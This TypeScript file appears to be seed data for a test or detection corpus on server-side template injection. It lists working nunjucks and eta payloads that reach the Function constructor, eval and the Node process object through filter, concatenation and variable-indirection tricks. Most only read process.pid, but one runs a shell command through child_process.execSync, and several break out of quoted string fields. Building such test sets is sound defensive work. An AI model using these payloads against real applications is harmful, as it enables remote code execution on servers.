// Seeds of the development half by the classes of template injection the field knows (attributes by strings, filters,
// names put together, what is kept in one tag and called in another): each works as it stands on the engines of template.ts.
import type { Seed } from "./contract.ts"
import { seeds } from "./seed.ts"

const dev = (context: string, texts: readonly string[]): Seed[] => seeds("dev", context, texts)

export const TEMPLATE_FIELD_SEEDS: readonly Seed[] = [
    ...dev("nunjucks", [
        `{{ range["rotcurtsnoc"|reverse]("return process.pid")() }}`,
        `{{ range[["con","structor"]|join]("return process.pid")() }}`,
        `{{ range["Constructor"|lower]("return process.pid")() }}`,
        `{{ range["xconstructor"|replace("x","")]("return process.pid")() }}`,
        `{{ range["con"~"structor"]("return process.pid")() }}`,
        `{% set c = "constructor" %}{{ range[c]("return process.pid")() }}`,
        `{% set f = range.constructor %}{{ f("return process.pid")() }}`,
        `{% set f = range.constructor("return process.pid") %}{{ f() }}`,
        `{% if range.constructor("return process.pid")() %}{{ range.constructor("return process.pid")() }}{% endif %}`,
        `{{ "".constructor.constructor("return process.pid")() }}`,
        `{{ [].concat.constructor("return process.pid")() }}`,
        `{{ range.constructor("return " + "pro" + "cess.pid")() }}`,
        `{{ range.constructor("return eval('process.pid')")() }}`,
    ]),
    ...dev("eta", [
        `<%= eval("process.pid") %>`,
        `<%= eval("pro" + "cess.pid") %>`,
        `<%= global.process.pid %>`,
        `<%= global["pro" + "cess"].pid %>`,
        `<%= globalThis["pro" + "cess"].pid %>`,
        `<% const { pid } = process %><%= pid %>`,
        `<% var p = process %><%= p.pid %>`,
        `<%= [process][0].pid %>`,
        `<%= (() => process.pid)() %>`,
        `<%= Reflect.get(process, "pid") %>`,
        `<%= Object.values({ p: process })[0].pid %>`,
        `<%= new Function("return process.pid")() %>`,
        `<%= "".constructor.constructor("return process.pid")() %>`,
        `<%= process.getBuiltinModule("process").pid %>`,
        `<% if (process.pid) { %><%= process.pid %><% } %>`,
        "<%= `${process.pid}` %>",
    ]),
    ...dev("nunjucks string", [
        `" + range.constructor("return process.pid")() + "`,
        `" ~ cycler.constructor("return process.pid")() ~ "`,
        `" and range.constructor("return process.pid")() ~ "`,
    ]),
    ...dev("eta string", [`" + process.pid + "`, `"+process.version+"`, `"+eval("process.pid")+"`]),
    ...dev("eta", [
        `<%= process.version %>`,
        `<%= process.getBuiltinModule("child_process").execSync("id") %>`,
        `<%= process.execPath %>`,
    ]),
]
